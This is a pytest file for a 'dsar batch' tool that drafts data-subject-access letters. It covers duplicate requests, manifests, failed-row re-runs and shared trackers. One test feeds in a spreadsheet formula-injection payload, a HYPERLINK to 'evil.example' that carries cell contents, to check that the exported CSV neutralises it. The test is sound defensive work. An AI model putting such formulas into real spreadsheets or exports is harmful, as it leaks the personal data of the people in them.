"""An advice service's week with `dsar batch`: edited sheets, re-runs, shared trackers, faults.

Issue 12: one open request per (client reference, organisation, kind) whatever the
input file; a cumulative manifest; failed-rows.csv listing exactly the rows still
failing; faults that fail one client or stop the batch cleanly, never a traceback.
Faults are made for real (a read-only folder as an unprivileged user, a symlink, a
full tmpfs, a PostgreSQL proxy killed mid-batch, a worker killed).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from batch_fixtures import client, write_csv, write_org

from dsar.files import person_folder_name
from dsar.tracker import Tracker
from tests.cli_runner import run_cli

DAY = "2026-11-26"


def requests_of(db: str) -> list[tuple[str | None, str, str, list[str]]]:
    with Tracker.open(db) as tracker:
        return [(r.client_reference, r.controller_id, r.kind, [e.kind for e in r.events])
                for r in tracker.list()]


def test_an_edited_sheet_reuses_open_requests_and_remakes_only_changed_clients(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    db = str(tmp_path / "tracker.sqlite")
    org, out = write_org(tmp_path), tmp_path / "out"
    common = ["--org", str(org), "--out", str(out), "--format", "txt", "--jobs", "1"]
    sheet = tmp_path / "clients.csv"
    write_csv(sheet, [client("CL-1", name="Amira Exampel"), client("CL-2", name="Bob Example",
                                                                  orgs="home-office;moj")])
    assert run_cli(capsys, "batch", str(sheet), *common)[0] == 0
    bob_letter = out / person_folder_name("Bob Example", reference="CL-2") / f"{DAY}-moj-access.txt"
    bob_mtime = bob_letter.stat().st_mtime_ns
    # fix the typo in CL-1's name (a new folder name too) and re-run into the same folder
    write_csv(sheet, [client("CL-1", name="Amira Example"), client("CL-2", name="Bob Example",
                                                                  orgs="home-office;moj")])
    code, _, err = run_cli(capsys, "batch", str(sheet), *common)
    assert code == 0, err
    assert ("Made the packs of 1 client (3 letters in all; 1 was already complete)") in err
    assert ("Reused 3 open requests instead of tracking them twice (1 client with changed details: "
            "letters made again and noted in each request's history)") in err
    found = requests_of(db)
    assert sorted(found) == [("CL-1", "home-office", "access", ["drafted", "drafted"]),
                             ("CL-2", "home-office", "access", ["drafted"]),
                             ("CL-2", "moj", "access", ["drafted"])]
    with Tracker.open(db) as tracker:
        amira = next(r for r in tracker.list() if r.client_reference == "CL-1")
    assert amira.entries[-1].event.note.startswith("letters made again: the client's details changed")
    assert amira.files[-1].endswith(
        f"{person_folder_name('Amira Example', reference='CL-1')}/{DAY}-home-office-access.txt")
    assert "Amira Example" in Path(amira.files[-1]).read_text(encoding="utf-8")
    assert bob_letter.stat().st_mtime_ns == bob_mtime  # unchanged: not made again
    # the manifest lists both clients once, CL-1 at its new letters, CL-2 as before
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert [c["client_reference"] for c in manifest["clients"]] == ["CL-1", "CL-2"]
    assert manifest["clients"][0]["folder"] == person_folder_name("Amira Example", reference="CL-1")
    refs = {d["tracker_ref"] for c in manifest["clients"] for d in c["documents"] if d["tracker_ref"]}
    assert len(refs) == 3
    # a deliberate new request closes the open one and says so in its history
    code, _, err = run_cli(capsys, "batch", str(sheet), *common, "--new-requests", "--batch-id", "again")
    assert code == 0, err
    found = requests_of(db)
    assert len(found) == 6
    closed = [f for f in found if f[3][-1] == "closed"]
    assert len(closed) == 3
    with Tracker.open(db) as tracker:
        old = tracker.list()[0]
        assert old.entries[-1].event.note.startswith("replaced by R-0000")


def test_the_same_person_under_two_references_is_a_warning_naming_both_rows(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    sheet = write_csv(tmp_path / "clients.csv", [client("CL-1"), client("CL-2", name="Bob Example"),
                                                 client("CL-9", name="amira  EXAMPLE")])
    code, _, err = run_cli(capsys, "batch", str(sheet), "--org", str(write_org(tmp_path)), "--check")
    assert code == 0, err
    assert ('Warning: rows 2 ("CL-1") and 4 ("CL-9") have the same name and date of birth (amira '
            "EXAMPLE, 12/04/1990): if they are one person, keep one row and one reference; both are "
            "made as they are") in err
    assert "CL-2" not in err


def test_two_sheets_in_two_folders_on_one_postgresql_tracker_share_open_requests(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    from tracker_fixtures import postgres_url

    urls = postgres_url()
    url = next(urls)
    try:
        org = write_org(tmp_path)
        a = write_csv(tmp_path / "a.csv", [client("CL-1"), client("CL-2", name="Bob Example")])
        b = write_csv(tmp_path / "b.csv", [client("CL-2", name="Bob Example"),
                                           client("CL-3", name="Cai Example")])
        for sheet, folder in ((a, "out-a"), (b, "out-b")):
            code, _, err = run_cli(capsys, "--db", url, "batch", str(sheet), "--org", str(org),
                                   "--out", str(tmp_path / folder), "--format", "txt", "--jobs", "1")
            assert code == 0, err
        assert "Reused 1 open request instead of tracking it twice;" in err
        assert sorted(r[0] for r in requests_of(url)) == ["CL-1", "CL-2", "CL-3"]
        # CL-2's entry in out-b points at the letters made in out-a
        manifest = json.loads((tmp_path / "out-b" / "manifest.json").read_text(encoding="utf-8"))
        cl2 = next(c for c in manifest["clients"] if c["client_reference"] == "CL-2")
        assert cl2["documents"][0]["files"]["txt"] == str(
            tmp_path / "out-a" / person_folder_name("Bob Example", reference="CL-2")
            / f"{DAY}-home-office-access.txt")
    finally:
        urls.close()


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_the_database_refuses_a_second_open_request_even_when_racing(tmp_path: Path, backend: str) -> None:
    """The unique index, not the code's look-up, is what stops a second open request."""
    from sqlalchemy import insert
    from sqlalchemy.exc import IntegrityError
    from tracker_fixtures import postgres_url

    from dsar.tracker.models import requests

    urls = postgres_url() if backend == "postgresql" else iter([str(tmp_path / "t.sqlite")])
    url = next(urls)
    try:
        with Tracker.open(url) as tracker:
            values = {"requester": "A", "controller_id": "home-office", "kind": "access",
                      "regimes": "uk-gdpr", "nation": "england", "created": "2026-11-01",
                      "client_reference": "CL-1"}
            from datetime import date
            values["created"] = date(2026, 11, 1)
            with tracker.engine.begin() as conn:
                conn.execute(insert(requests).values(**values))
            with pytest.raises(IntegrityError), tracker.engine.begin() as conn:
                conn.execute(insert(requests).values(**values))
            ref = tracker.list()[0].ref
            tracker.log(ref, "closed", date(2026, 11, 2), today=date(2026, 11, 26))
            with tracker.engine.begin() as conn:  # closed: a new open one is allowed
                conn.execute(insert(requests).values(**values))
            assert len(tracker.list()) == 2
    finally:
        if hasattr(urls, "close"):
            urls.close()


def failed_rows(out: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((out / "failed-rows.csv").read_text(encoding="utf-8-sig"))))


def test_following_the_fix_and_rerun_advice_keeps_the_manifest_and_the_input(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    org, out = write_org(tmp_path), tmp_path / "out"
    common = ["--org", str(org), "--out", str(out), "--format", "txt", "--jobs", "1"]
    sheet = write_csv(tmp_path / "clients.csv", [
        client("CL-1"), client("CL-2", name="Bob Example", dob="31/02/1990"),
        client("CL-3", name="Cai Example", postcode="NOPE"), client("CL-4", name="Dee Example")])
    assert run_cli(capsys, "batch", str(sheet), *common)[0] == 1
    failed = out / "failed-rows.csv"
    assert [r["Client reference"] for r in failed_rows(out)] == ["CL-2", "CL-3"]
    # fix one of the two in failed-rows.csv and run it as the tool says
    text = failed.read_bytes().decode("utf-8-sig").replace("31/02/1990", "28/02/1990")
    failed.write_bytes(text.encode("utf-8-sig"))
    code, _, err = run_cli(capsys, "batch", str(failed), *common)
    assert code == 1
    assert "Error: 1 of 2 rows failed (listed above) and 1 was made" in err
    assert [r["Client reference"] for r in failed_rows(out)] == ["CL-3"]
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert [c["client_reference"] for c in manifest["clients"]] == ["CL-1", "CL-4", "CL-2"]
    assert [r["client_reference"] for r in manifest["failed_rows"]] == ["CL-3"]
    listed = {r["client_reference"] for r in csv.DictReader(io.StringIO(
        (out / "manifest.csv").read_text(encoding="utf-8-sig")))}
    assert listed == {"CL-1", "CL-2", "CL-4"}
    # fix the last one: the edited input is kept (dsar did not write it as it is now)
    edited = failed.read_bytes().decode("utf-8-sig").replace("NOPE", "ZZ99 9ZZ").encode("utf-8-sig")
    failed.write_bytes(edited)
    code, _, err = run_cli(capsys, "batch", str(failed), *common)
    assert code == 0, err
    assert failed.read_bytes() == edited
    assert f"No rows are failing now; {failed} is left as it is" in err
    # the original sheet again: its two bad rows were made since, so nothing is listed as failing
    code, _, err = run_cli(capsys, "batch", str(sheet), *common)
    assert code == 1  # its own rows are still wrong, and said so
    assert 'row 3, column "Date of birth"' in err
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["failed_rows"] == []
    assert sorted(c["client_reference"] for c in manifest["clients"]) == ["CL-1", "CL-2", "CL-3", "CL-4"]
    assert sheet.is_file()


def test_failed_rows_csv_is_formula_safe_and_reads_back_as_typed(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?d="&B3&C3,"Click to fix")'
    org, out = write_org(tmp_path), tmp_path / "out"
    sheet = write_csv(tmp_path / "clients.csv", [client("CL-1", name=evil, dob="31/02/1990",
                                                        address="+44 Road; @Town")])
    assert run_cli(capsys, "batch", str(sheet), "--org", str(org), "--out", str(out),
                   "--format", "txt")[0] == 1
    row = failed_rows(out)[0]
    assert row["Full name"] == "'" + evil
    assert row["Address"] == "'+44 Road; @Town"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # read back, the apostrophes go: the fixed row's letter shows the text as typed
    failed = out / "failed-rows.csv"
    text = failed.read_bytes().decode("utf-8-sig").replace("31/02/1990", "28/02/1990")
    failed.write_bytes(text.replace(evil.replace('"', '""'), "Amira Example").encode("utf-8-sig"))
    code, _, err = run_cli(capsys, "batch", str(failed), "--org", str(org), "--out", str(out),
                           "--format", "txt")
    assert code == 0, err
    letter = (out / person_folder_name("Amira Example", reference="CL-1") / f"{DAY}-home-office-access.txt").read_text(encoding="utf-8")
    assert "+44 Road" in letter and "'+44" not in letter


def test_an_unchanged_client_reused_in_the_same_folder_keeps_its_manifest_entry(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    org, out = write_org(tmp_path), tmp_path / "out"
    common = ["--org", str(org), "--out", str(out), "--format", "txt", "--jobs", "1"]
    sheet = write_csv(tmp_path / "clients.csv", [client("CL-1")])
    assert run_cli(capsys, "batch", str(sheet), *common, "--batch-id", "monday")[0] == 0
    before = json.loads((out / "manifest.json").read_text(encoding="utf-8"))["clients"]
    # the next day, the same client in another sheet: nothing to make, the entry stays whole
    monkeypatch.setenv("DSAR_TODAY", "2026-11-27")
    sheet = write_csv(tmp_path / "tuesday.csv", [client("CL-1"), client("CL-2", name="Bob Example")])
    code, _, err = run_cli(capsys, "batch", str(sheet), *common)
    assert code == 0, err
    after = json.loads((out / "manifest.json").read_text(encoding="utf-8"))["clients"]
    assert after[0] == before[0]
    assert [d["document"] for d in after[0]["documents"]] == ["cover-sheet", "letter-of-authority", "letter"]
    assert after[1]["client_reference"] == "CL-2"
    assert [p.parent.name for p in out.glob("*/2026-11-27-home-office-access.txt")] == [
        after[1]["folder"]]  # only CL-2's letter is new


def test_track_add_for_a_client_with_an_open_request_says_so(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    args = ["track", "add", "--controller", "home-office", "--requester", "Amira Example",
            "--client-reference", "CL-1"]
    code, first, _ = run_cli(capsys, *args)
    assert code == 0
    code, second, err = run_cli(capsys, *args)
    assert code == 0 and second == first
    assert (f"Warning: CL-1 already has an open access request to Home Office: {first.strip()}; nothing "
            f"new was added (log `closed` on {first.strip()} first to start a new one)") in err
